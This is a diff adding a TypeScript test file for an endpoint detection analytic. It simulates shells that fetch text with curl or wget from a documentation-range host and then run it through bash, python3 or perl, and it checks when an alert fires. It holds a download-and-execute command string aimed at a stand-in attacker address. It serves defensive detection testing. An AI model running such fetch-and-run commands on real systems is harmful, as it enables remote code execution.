@@ -1,0 +1,74 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { Alert } from '../../events/alert.ts';
+import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
+import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
+import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
+
+const OUT = '203.0.113.66';
+const SHORT = `curl -so a http://${OUT}/a; ./a`;
+
+/** A developer who browsed some minutes ago, at a shell. */
+function browsed(): { log: HostLog; shell: Process } {
+  const log = new HostLog();
+  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
+  log.wait(5 * MINUTE);
+  return { log, shell: log.shell('dev') };
+}
+
+const calls = (process: Process): void => void process.connect(OUT, 443);
+const alertsOf = async (log: HostLog): Promise<Alert[]> =>
+  (await scanLog(log)).filter(alert => alert.analytic === 'AN0321');
+
+for (const [interpreter, flag] of [
+  ['/usr/bin/bash', '-c'],
+  ['/usr/bin/python3', '-c'],
+  ['/usr/bin/perl', '-e'],
+] as const) {
+  test(`a short text fetched by curl -s and given to ${interpreter} ${flag} is run, however long the fetch takes`, async () => {
+    const { log, shell } = browsed();
+    shell.run(`/usr/bin/curl -fsSL http://${OUT}/x`).connect(OUT, 80);
+    log.wait(5000);
+    calls(shell.run([interpreter, flag, SHORT]));
+    firesAt(await alertsOf(log), 'AN0321', 'high');
+  });
+}
+
+test('wget -qO- counts as curl -s does', async () => {
+  const { log, shell } = browsed();
+  shell.run(`/usr/bin/wget -qO- http://${OUT}/x`).connect(OUT, 80);
+  log.wait(5000);
+  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
+  firesAt(await alertsOf(log), 'AN0321', 'high');
+});
+
+test("a command typed after a fetch that was read is nobody's program", async () => {
+  const { log, shell } = browsed();
+  shell.run(`/usr/bin/curl http://${OUT}/status`).connect(OUT, 80);
+  log.wait(4000);
+  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
+  assert.deepEqual(await alertsOf(log), []);
+});
+
+test('a file that was fetched into a file is not the text of the next command', async () => {
+  const { log, shell } = browsed();
+  shell.run(`/usr/bin/curl -s -o notes.txt http://${OUT}/notes`).connect(OUT, 80);
+  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
+  assert.deepEqual(await alertsOf(log), []);
+});
+
+test('another command between them parts a fetch and a short text', async () => {
+  const { log, shell } = browsed();
+  shell.run(`/usr/bin/curl -s http://${OUT}/x`).connect(OUT, 80);
+  shell.run('/usr/bin/ls -l');
+  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
+  assert.deepEqual(await alertsOf(log), []);
+});
+
+test('a fetch of long ago is not the text of this command', async () => {
+  const { log, shell } = browsed();
+  shell.run(`/usr/bin/curl -s http://${OUT}/x`).connect(OUT, 80);
+  log.wait(11_000);
+  calls(shell.run(['/usr/bin/bash', '-c', `${SHORT}\nexit`]));
+  assert.deepEqual(await alertsOf(log), []);
+});
